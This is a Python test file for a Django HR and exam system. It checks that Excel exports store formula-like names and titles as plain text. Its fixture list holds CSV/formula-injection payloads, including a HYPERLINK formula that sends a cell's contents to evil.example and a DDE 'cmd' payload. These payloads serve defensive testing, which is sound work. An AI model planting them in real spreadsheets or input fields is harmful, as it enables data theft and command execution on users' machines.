"""Every .xlsx export writes text that a spreadsheet would evaluate ("=…", "+…", "-…",
"@…", tab, CR) as plain text, with the value exactly as typed."""

import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from assessments.models import Attempt, Exam, ExamPart
from hr_system.models import Employee

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C notepad'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_people(cast):
    people = [
        Employee.objects.create(
            code=str(900 + i),
            full_name=name,
            job_title=name,
            unit=cast.office_a,
            category=Employee.Category.CIVIL_SERVANT,
            start_date=dt.date(2015, 1, 1),
        )
        for i, name in enumerate(HOSTILE)
    ]
    return people


def cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_no_formula_and_texts_kept(content: bytes, expected: list[str]) -> None:
    found = list(cells(content))
    formulas = [c.coordinate for c in found if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in found if isinstance(c.value, str)}
    for text in expected:
        # The file carries a carriage return as written. openpyxl on the standard
        # library's XML parser hands it back as a line feed; with lxml installed (pyHanko
        # needs it) it is written as &#13; and read back unchanged.
        assert text in values or text.replace("\r", "\n") in values, text
    for cell in found:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_employee_list_export_keeps_hostile_names_as_text(cast, hostile_people, login):
    r = login(cast.hr_a).get("/employees/export.xlsx")
    assert r.status_code == 200
    assert_no_formula_and_texts_kept(r.content, HOSTILE)


def test_timesheet_export_keeps_hostile_names_as_text(cast, hostile_people, login):
    r = login(cast.hr_a).get("/attendance/timesheet.xlsx", {"unit": "P-MC", "month": "2025-03"})
    assert r.status_code == 200
    assert_no_formula_and_texts_kept(r.content, HOSTILE)


def test_discipline_export_keeps_hostile_names_as_text(cast, hostile_people, login):
    query = {"unit": "P-MC", "start": "2025-03-03", "end": "2025-03-07"}
    r = login(cast.hr_a).get("/attendance/discipline.xlsx", query)
    assert r.status_code == 200
    assert_no_formula_and_texts_kept(r.content, HOSTILE)


def test_results_export_keeps_hostile_names_and_part_titles_as_text(cast, hostile_people, login):
    now = timezone.now()
    exam = Exam.objects.create(
        title='=HYPERLINK("http://evil.example")',
        unit=cast.commune_a,
        opens_at=now - dt.timedelta(hours=3),
        closes_at=now - dt.timedelta(hours=1),
        pass_percent=50,
    )
    ExamPart.objects.create(exam=exam, order=1, title="=1+2")
    ExamPart.objects.create(exam=exam, order=2, title="@Phần II")
    for person in hostile_people:
        Attempt.objects.create(
            exam=exam,
            employee=person,
            status=Attempt.Status.FINALIZED,
            started_at=now - dt.timedelta(hours=2),
            deadline=now - dt.timedelta(hours=1),
            finalized_at=now - dt.timedelta(hours=1, minutes=30),
        )
    client = login(cast.hr_a)
    assert client.post(f"/api/v1/assessments/results/exams/{exam.pk}/score").status_code == 200
    r = client.get(f"/api/v1/assessments/results/exams/{exam.pk}/results.xlsx")
    assert r.status_code == 200
    assert_no_formula_and_texts_kept(r.content, [*HOSTILE, "=1+2", "@Phần II", exam.title])


def test_to_bytes_turns_any_formula_cell_into_text():
    from hr_system import spreadsheets

    wb = spreadsheets.new_workbook("A")
    wb.active["A1"] = "=1+1"  # written around put(): the last step still catches it
    wb.active["B1"] = 5
    spreadsheets.put(wb.active, 1, 3, "-x")
    content = spreadsheets.to_bytes(wb)
    ws = load_workbook(io.BytesIO(content)).active
    assert (ws["A1"].value, ws["A1"].data_type) == ("=1+1", "s")
    assert ws["B1"].value == 5
    assert (ws["C1"].value, ws["C1"].data_type, ws["C1"].quotePrefix) == ("-x", "s", True)


def test_import_templates_hold_no_formula(cast, login):
    from assessments.parsers import template_xlsx
    from hr_system.roster import template_workbook

    for content in (template_workbook(), template_xlsx()):
        assert [c.coordinate for c in cells(content) if c.data_type == "f"] == []
